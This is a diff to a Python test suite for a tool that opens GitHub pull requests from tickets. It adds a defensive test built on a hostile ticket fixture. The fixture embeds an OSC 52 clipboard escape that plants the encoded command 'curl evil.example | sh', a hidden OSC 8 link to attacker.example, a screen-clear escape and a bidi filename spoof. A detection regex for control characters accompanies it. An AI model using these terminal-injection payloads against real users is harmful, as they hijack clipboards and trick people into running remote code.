@@ -146,6 +146,12 @@ def test_inert_leaves_ordinary_words_and_addresses_alone() -> None:
     assert inert(kept) == kept
     assert not CLOSES.search(inert("Fixes #1; closes: acme/widgets#2; resolved GH-3"))
     assert not MENTION.search(inert("@octocat and @acme/owners"))
+    # a keyword that goes on as a word or a path is no keyword: a ticket GH-12's branch, named in the
+    # report (a code span, where a joiner hides in what a reviewer copies), is left whole
+    branch = "git checkout agentbook/fix-prompt/gh-12 (fixed_in/#3, closed-form #4)"
+    assert inert(branch) == branch
+    for text in ("Fixes GH-12", "fixes: gh-12", "prefixes #1", "Fixes**#1**", "resolved acme/w#2", "closes(#3)"):
+        assert not CLOSES.search(inert(text)), text
 
 
 def test_a_password_in_the_remote_url_is_not_printed_when_it_is_not_githubs(run_cli, git_repo: Path,
@@ -162,3 +168,40 @@ def test_a_password_in_the_remote_url_is_not_printed_when_it_is_not_githubs(run_
     r = run_cli("run", "probe", "--repo", git_repo, "--open-pr", "--dry-run")
     assert r.code != 0 and "cannot tell the GitHub repository" in r.err, r.err
     assert password not in r.out + r.err and "https://gitlab.example/group/sub/repo.git" in r.err
+
+
+CONTROL_TICKET = """---
+id: 10
+title: "ATTACK \\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a\\e[2J\\e[1A fix typo \\u202egpj.exe\\u202c"
+co-authored-by: ["Eve \\e]8;;https://attacker.example\\e\\\\\\\\link\\e]8;;\\e\\\\\\\\ <eve@example.com>"]
+runbook: probe
+---
+Please look.
+"""
+# what a terminal (git log, gh pr view) or a browser acts on: C0 and C1 controls, bidi overrides
+CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+def test_control_characters_in_the_ticket_reach_neither_the_pull_requests_title_nor_a_commit(
+        run_cli, git_repo: Path, tmp_path: Path, github: list[dict[str, Any]]) -> None:
+    """The ticket's title went into the pull request's title and every commit message as it was, and a
+    co-author into a trailer: an OSC 52 sequence set the clipboard of whoever ran `git log` on the branch,
+    `ESC[2J` cleared their screen, OSC 8 made a hidden link, and a right-to-left override showed
+    `exe.jpg` for `gpj.exe` in the title GitHub shows."""
+    (git_repo / "runbooks").mkdir()
+    (git_repo / "runbooks" / "probe.md").write_text(RUNBOOK)
+    git(git_repo, "add", "-A")
+    git(git_repo, "commit", "-q", "-m", "probe runbook")
+    bare = github_origin(git_repo, tmp_path / "widgets.git")
+    (tmp_path / "T.md").write_text(CONTROL_TICKET)
+    script = tmp_path / "probe.script.yaml"
+    script.write_text(json.dumps(SCRIPT))
+    r = run_cli("run", "--ticket", tmp_path / "T.md", "--repo", git_repo, "--model", f"scripted:{script}",
+                "--open-pr", "--json")
+    data = json.loads(r.out)
+    assert r.code == 11 and len(github) == 1, (r.err, data.get("outcome"))
+    title, body = github[0]["body"]["title"], github[0]["body"]["body"]
+    messages = git(bare, "log", "--format=%B%x00", data["branch"]).split("\x00")
+    assert "fix typo" in title and any("fix typo" in m for m in messages)
+    for where, what in [("title", title), ("body", body), *(("commit", m) for m in messages)]:
+        assert not CONTROLS.search(what), (where, what)
